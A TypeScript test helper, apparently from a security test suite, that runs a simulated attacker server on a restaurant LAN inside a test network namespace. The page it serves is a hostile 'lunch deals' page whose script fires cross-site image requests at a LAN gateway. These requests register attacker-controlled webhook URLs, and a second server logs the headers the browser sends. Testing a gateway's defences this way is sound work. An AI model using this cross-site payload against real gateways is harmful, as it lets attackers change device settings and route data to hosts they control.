// Another host on the restaurant's LAN, run as its own process (inside a test's network
// namespace): serves a hostile page from `page` and receives what is sent to its URLs, and
// answers on `mirror` too, a third address whose only job is to show which headers a browser
// sends to a plain-http LAN address. Prints one JSON line with its ports, then one per
// request it receives ({server, method, url, headers}). Exits when its stdin closes.
// Usage: node attacker-server.ts '{"page":"10.77.0.2","mirror":"10.77.0.3","gateway":"http://10.77.0.1:8000"}'
import http from 'node:http'
import type { AddressInfo } from 'node:net'

const plan = JSON.parse(process.argv[2]) as { page: string; mirror: string; gateway: string }

function hostilePage(gateway: string, self: string, mirror: string): string {
  return `<!doctype html><meta charset="utf-8"><title>lunch deals</title><body><script>
const gw = ${JSON.stringify(gateway)}
const load = (src, referrerPolicy) => new Promise((resolve) => {
  const img = new Image()
  if (referrerPolicy) img.referrerPolicy = referrerPolicy
  img.onload = () => resolve('load')
  img.onerror = () => resolve('error')
  img.src = src
})
const register = (hook, policy) => load(gw + '/api/v1/register?http_client=' + encodeURIComponent(${JSON.stringify(self)} + hook), policy)
async function run() {
  const results = {}
  // The gateway is reachable from this page: its icon loads.
  results.control = await load(gw + '/assets/favicon.svg')
  results.mirror = await load(${JSON.stringify(mirror)} + '/probe.svg')
  results.withReferrer = await register('/hook-with-referrer')
  results.noReferrer = await register('/hook-no-referrer', 'no-referrer')
  window.results = results
}
run()
</script></body>`
}

function listen(server: http.Server, address: string): Promise<number> {
  return new Promise((resolve) => server.listen(0, address, () => resolve((server.address() as AddressInfo).port)))
}

const report = (server: string, req: http.IncomingMessage) =>
  process.stdout.write(`${JSON.stringify({ server, method: req.method, url: req.url, headers: req.headers })}\n`)

let pagePort = 0
let mirrorPort = 0
const page = http.createServer((req, res) => {
  report('page', req)
  if (req.url === '/page.html') {
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
    res.end(hostilePage(plan.gateway, `http://${plan.page}:${pagePort}`, `http://${plan.mirror}:${mirrorPort}`))
    return
  }
  req.resume()
  res.writeHead(200)
  res.end()
})
const mirror = http.createServer((req, res) => {
  report('mirror', req)
  res.writeHead(200, { 'content-type': 'image/svg+xml' })
  res.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>')
})
pagePort = await listen(page, plan.page)
mirrorPort = await listen(mirror, plan.mirror)
process.stdout.write(`${JSON.stringify({ pagePort, mirrorPort })}\n`)
process.stdin.resume()
process.stdin.on('end', () => process.exit(0))
